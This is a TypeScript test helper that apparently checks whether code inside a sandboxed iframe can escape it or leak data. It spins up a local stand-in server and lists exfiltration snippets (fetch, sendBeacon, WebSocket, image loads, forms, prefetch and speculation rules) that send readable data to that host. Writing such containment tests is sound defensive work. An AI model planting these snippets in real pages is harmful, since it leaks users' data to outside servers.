import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, beforeEach } from 'vitest'

/** Somebody else's server, and what reached it. */
export function useAway() {
  const received: string[] = []
  const connections: string[] = []
  const server = createServer((request, response) => {
    received.push(request.url ?? '')
    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end('<p>away</p>')
  })
  server.on('connection', () => connections.push('a connection'))
  beforeAll(() => new Promise<void>((done) => server.listen(0, '127.0.0.1', done)))
  afterAll(() => void server.close())
  beforeEach(() => {
    for (const each of [received, connections]) each.length = 0
  })
  return { received, connections, address: () => `http://127.0.0.1:${(server.address() as AddressInfo).port}` }
}

const OWN_ADDRESS = 'the address of its own frame'
const REFRESH = 'a refresh'
const FRAME = 'a frame'
const FRAMED_PAGE = 'a page in a frame'

/** Ways that end the frame. */
export const LEAVING: ReadonlySet<string> = new Set([OWN_ADDRESS, REFRESH])
/** Chromium may connect ahead of a navigation of a frame, and only then asks whether it is allowed. */
export const NAVIGATING: ReadonlySet<string> = new Set([...LEAVING, FRAME, FRAMED_PAGE])

/** What code in a frame could try to get out of it. `send` makes an address of what it can read. */
export const WAYS_OUT: readonly (readonly [name: string, code: string])[] = [
  ['the address of the page', `top.location = send('top')`],
  [OWN_ADDRESS, `location.href = send('own')`],
  [
    'a link out of the frame',
    `const a = document.createElement('a'); a.href = send('link'); a.target = '_top'; document.body.append(a); a.click()`,
  ],
  [
    'a link to a new page',
    `const a = document.createElement('a'); a.href = send('blank'); a.target = '_blank'; document.body.append(a); a.click()`,
  ],
  ['a new page', `window.open(send('open'))`],
  [
    'a form',
    `const form = document.createElement('form'); form.action = send('form'); form.target = '_top'; document.body.append(form); form.submit()`,
  ],
  [
    REFRESH,
    `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + send('refresh'); document.head.append(meta)`,
  ],
  [FRAME, `const frame = document.createElement('iframe'); frame.src = send('frame'); document.body.append(frame)`],
  [
    FRAMED_PAGE,
    `const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.location = send('inner')`,
  ],
  ['an image', `new Image().src = send('image')`],
  ['a request', `fetch(send('fetch'), { mode: 'no-cors' }).catch(() => {})`],
  ['a beacon', `navigator.sendBeacon(send('beacon'), 'x')`],
  ['a socket', `new WebSocket(send('socket').replace('http', 'ws'))`],
  [
    'a script',
    `const script = document.createElement('script'); script.src = send('script'); document.head.append(script)`,
  ],
  [
    'a style',
    `const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = send('style'); document.head.append(link)`,
  ],
  [
    'hints',
    `for (const rel of ['prefetch', 'preload', 'preconnect', 'prerender', 'dns-prefetch', 'modulepreload']) { const link = document.createElement('link'); link.rel = rel; link.as = 'fetch'; link.href = send(rel); document.head.append(link) }`,
  ],
  ['a worker', `new Worker(URL.createObjectURL(new Blob(['fetch("' + send('worker') + '")'])))`],
  [
    'speculation',
    `const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [send('speculation')] }] }); document.head.append(rules)`,
  ],
]
